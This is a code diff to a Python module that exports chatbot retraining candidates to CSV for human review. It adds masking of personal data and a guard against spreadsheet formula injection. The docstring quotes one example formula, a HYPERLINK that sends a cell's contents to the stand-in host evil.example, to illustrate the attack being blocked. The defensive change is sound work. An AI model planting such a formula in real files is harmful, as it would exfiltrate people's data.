@@ -5,19 +5,22 @@ person's answer.
 
 A person reviews the file (fixes the answer, sets `reviewed` to yes); `npm run train -- --extra-data
 retrain-candidates.csv` then trains on the reviewed rows only. Personal data never leaves the job:
-e-mail addresses, phone numbers and long digit runs are masked before anything is written.
+e-mail addresses, phone numbers and long digit runs are masked before anything is written
+(personal_data.py).
+
+Reviewers open the file in a spreadsheet, which runs a cell starting with `=`, `+`, `-`, `@`, tab or
+carriage return as a formula (`=HYPERLINK("http://evil.example/?d="&A1,"확인")`). Such a cell, and one
+that already starts with `'` before one of those, is written with a `'` in front (OWASP's CSV injection
+advice); the training side (npc/training/kobot_train/data.py load_pairs) takes that one `'` off again.
 """
 import csv
 import re
 from pathlib import Path
 
-EMAIL = re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}")
-PHONE = re.compile(r"(\+?82[- ]?)?0?1[016789][- .]?\d{3,4}[- .]?\d{4}|0\d{1,2}[- .]\d{3,4}[- .]\d{4}")
-LONG_DIGITS = re.compile(r"\d{6,}")
+from .personal_data import mask_personal_data
 
-
-def mask_personal_data(text: str) -> str:
-    return LONG_DIGITS.sub("[숫자]", PHONE.sub("[전화번호]", EMAIL.sub("[이메일]", text)))
+# Also a cell that starts with quotes before a formula character, so that the reader's one `'` less is exact.
+FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
 
 
 def normalised(text: str) -> str:
@@ -49,10 +52,15 @@ def candidates(outcomes: list[dict], training_csv: Path) -> list[tuple[str, str]
     return sorted((q, a) for _, q, a in first.values())
 
 
+def spreadsheet_safe(cell: str) -> str:
+    """`cell` as a spreadsheet shows it as text, never runs it as a formula."""
+    return "'" + cell if FORMULA_START.match(cell) else cell
+
+
 def write_candidates(rows: list[tuple[str, str]], path: Path) -> int:
     path.parent.mkdir(parents=True, exist_ok=True)
     with open(path, "w", encoding="utf-8", newline="") as handle:
         writer = csv.writer(handle)
         writer.writerow(["Q", "A", "label", "reviewed"])
-        writer.writerows([(q, a, 0, "no") for q, a in rows])
+        writer.writerows([(spreadsheet_safe(q), spreadsheet_safe(a), 0, "no") for q, a in rows])
     return len(rows)
